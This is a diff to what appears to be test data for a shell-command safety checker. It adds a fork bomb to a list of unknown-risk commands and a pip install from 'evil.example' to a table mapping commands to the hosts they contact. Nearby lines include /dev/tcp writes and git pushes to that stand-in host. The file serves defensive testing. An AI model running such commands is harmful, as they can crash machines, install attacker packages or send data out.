@@ -275,6 +275,7 @@ UNKNOWN = [
     "complete -C 'rm x' foo",
     "curl -K f",
     "kill 1",
+    ":(){ :|:& };:",
     "git submodule foreach 'rm x'",
     "git bisect run rm x",
     "git filter-branch --tree-filter 'rm x'",
@@ -358,6 +359,10 @@ HOSTS = [
     ("git push ssh://git@evil.example/a", ["evil.example"]),
     ("pip install requests", ["files.pythonhosted.org", "pypi.org"]),
     ("pip install git+https://evil.example/a", ["evil.example", "files.pythonhosted.org", "pypi.org"]),
+    (
+        ".venv/bin/pip install https://evil.example/a.whl",
+        ["evil.example", "files.pythonhosted.org", "pypi.org"],
+    ),
     ("npm install left-pad", ["registry.npmjs.org"]),
     ("dig evil.example", ["evil.example"]),
     ("echo a > /dev/tcp/evil.example/80", ["evil.example"]),
